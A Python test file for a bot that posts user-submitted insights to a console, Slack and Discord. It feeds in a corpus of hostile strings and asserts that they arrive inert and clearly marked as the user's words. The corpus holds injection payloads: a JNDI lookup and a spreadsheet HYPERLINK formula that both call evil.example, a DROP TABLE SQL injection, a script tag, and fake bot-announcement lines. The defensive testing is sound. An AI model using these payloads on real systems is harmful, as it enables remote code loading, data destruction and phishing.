"""Hostile text through the real adapters (issue 11): what the platforms receive is inert and set apart.

Each of the corpus's strings is shared as an insight on the console, Slack and Discord; the
assertions read what the stand-ins received (channel posts) or what the terminal showed.
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import AsyncIterator

import pytest

from shared import text as hygiene
from tests.conftest import make_settings
from tests.contract.drivers import DISCORD_THEME, SLACK_THEME, THEME_CHANNELS, Driver, driving
from tests.support import opened_core, with_capacity

THEME = "citizen-participation"
FAKE = "[Organizer] Your seat was CANCELLED, re-register at https://evil.example"

CORPUS: list[str] = [
    # mass mentions and mention markup, on both platforms' syntax
    "@everyone free pizza",
    "@here look",
    "@channel now",
    "<!channel> now",
    "<!here|here>",
    "<!everyone>",
    "<@U0ADMIN01> please",
    "<@!123456789012345678>",
    "<@&123456789012345678> role",
    "<#C0GENERAL>",
    "<!subteam^S0123|@team>",
    "<t:0:F> is when",
    "<!date^0^{date}|fake date>",
    "&lt;!here&gt; already escaped",
    "@\u200beveryone",
    # formatting that could dress people's words as the bot's
    "*bold claim*",
    "> a quote of the bot",
    ">>> everything quoted",
    "# Heading",
    "-# small print",
    "[click here](https://evil.example)",
    "<https://evil.example|https://slack.com>",
    "||spoiler||",
    "```code block```",
    "~strike~ _it_ `code`",
    # lines that pretend to come from the bot
    "ok\n" + FAKE,
    "fine\n\n" + FAKE,
    "fine\r\n:bulb: *Insight · Citizen participation*",
    "thanks\u2028" + FAKE,
    "thanks\u2029📣 Announcement about Workshop",
    "x\n✅ Your seat is confirmed for Workshop",
    # controls, NUL, bidi overrides and isolates, noncharacters, invisible characters
    "nul\x00byte",
    "\x1b[31mred terminal\x1b[0m",
    "bell\x07 and backspace\x08",
    "del\x7f c1\x85\x9b",
    "\u202etxt.exe",
    "\u202aembedded\u202c",
    "\u202boverride rtl\u202c",
    "\u202dforce ltr\u202c",
    "\u2066isolated\u2069",
    "\u2067rtl isolate\u2069 \u2068first strong\u2069",
    "zero\u200bwidth\u2060joiner\ufeffbom",
    "non\ufdd0char\ufffe\uffff",
    "vertical\x0btab\x0cfeed",
    # what people write, which must survive whole
    "👩‍💻 we coded the night away",
    "👨‍👩‍👧‍👦 families came",
    "🏳️‍🌈 pride week",
    "👍🏽 agreed",
    "🇫🇷 🇨🇴 🇬🇧",
    "می‌خواهم شرکت کنم",
    "क्‍ष Devanagari with a ZWJ",
    "Cafe\u0301 in Medelli\u0301n",
    "שלום עולם",
    "مرحبا بالجميع",
    # templates and injections aimed at other layers
    "⟦time:0:full⟧ a core time marker",
    "%s %n {0} {user} ${jndi:ldap://evil.example/a}",
    "'; DROP TABLE insights; --",
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example","click")',
    "a" * 990,
]

BANNED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ufdd0-\ufdef\ufffe\uffff]")
KEPT = [s for s in CORPUS if "\u200d" in s or "\u200c" in s or s.startswith(("🇫🇷", "👍🏽", "שלום", "مرحبا"))]

assert len(CORPUS) >= 50


@pytest.fixture(params=["console", "slack", "discord"])
async def hostile(request, sqlite_url, clock, monkeypatch) -> AsyncIterator[Driver]:
    platform = request.param
    channels = {platform: THEME_CHANNELS[platform]} if platform in THEME_CHANNELS else {}
    settings = make_settings(sqlite_url, insight_rate_limit=10_000)
    async with (
        opened_core(settings, with_capacity(1, **channels), clock, grace=1) as core,
        driving(platform, core, monkeypatch) as running,
    ):
        yield running


def _line(raw: str, platform: str) -> str:
    # a terminal reads one command a line: there the breaks arrive as spaces
    if platform == "console":
        raw = re.sub(r"[\r\n\u2028\u2029\x0b\x0c\x85]", " ", raw)
    return f"/insight {THEME} {raw}"


def _people_lines(shown: str, platform: str, marker: str) -> list[str]:
    """The lines of output that hold the insight whose text contains ``marker``."""
    lines = shown.split("\n")
    at = next(i for i, line in enumerate(lines) if marker in line)
    return lines[at:]


async def test_hostile_strings_reach_every_platform_inert_and_set_apart(hostile: Driver) -> None:
    platform = hostile.platform
    for index, raw in enumerate(CORPUS):
        tag = f"n{index:02d}q"
        said = await hostile.say("ann", _line(f"{tag} {raw}", platform))
        assert "Thank you" in said.text, (raw, said.text)
        cleaned = hygiene.clean(raw)
        if platform == "console":
            shown = (await hostile.say("ann", f"/insights {THEME}")).text
            post = "\n".join(_people_lines(shown, platform, tag)[:2])
            assert BANNED.search(shown) is None, (raw, shown)
            # the person's words sit on lines set apart from the bot's own
            assert all(line.startswith("    │ ") for line in _people_lines(shown, platform, tag)[:1])
        else:
            await hostile.deliver()
            post = (await hostile.posts())[-1]
            assert tag in post, (raw, post)
            assert BANNED.search(post) is None, (raw, post)
        for keep in KEPT:
            if raw == keep:
                assert unicodedata.normalize("NFC", cleaned) in post.replace("\\", ""), (raw, post)
    if platform == "slack":
        _slack_posts_are_inert(hostile)
    elif platform == "discord":
        _discord_posts_are_inert(hostile)


def _slack_posts_are_inert(driver: Driver) -> None:
    standin = driver.standin  # type: ignore[attr-defined]
    posts = standin.calls("chat.postMessage", channel=SLACK_THEME)
    assert len(posts) == len(CORPUS)
    for call in posts:
        args = call.args
        assert not args.get("link_names") and args.get("parse") in (None, "none")
        blocks = args["blocks"]
        words = [b["text"]["text"] for b in blocks[1:-1]]  # between the bot's header and byline
        for text in [*words, args["text"]]:
            assert re.search(r"<[!@#]", text) is None, text
        for text in words:
            # every line of the person's words is quoted: none can pass for the bot's
            assert all(line.startswith("> ") for line in text.split("\n")), text
        byline = blocks[-1]["elements"][0]["text"]
        assert "ann" in byline.lower()  # the author is shown


def _discord_posts_are_inert(driver: Driver) -> None:
    standin = driver.standin  # type: ignore[attr-defined]
    bodies = standin.channel_bodies(DISCORD_THEME)
    assert len(bodies) == len(CORPUS)
    for body in bodies:
        assert body.get("allowed_mentions", {}).get("parse") == []
        embed = body["embeds"][0]
        description = embed["description"]
        assert "@everyone" not in description and "@here" not in description
        assert re.search(r"<[@#!&:t]", description) is None, description
        assert all(line.startswith("> ") for line in description.split("\n")), description
        assert any(f["name"] == "Shared by" and "ann" in f["value"].lower() for f in embed["fields"])
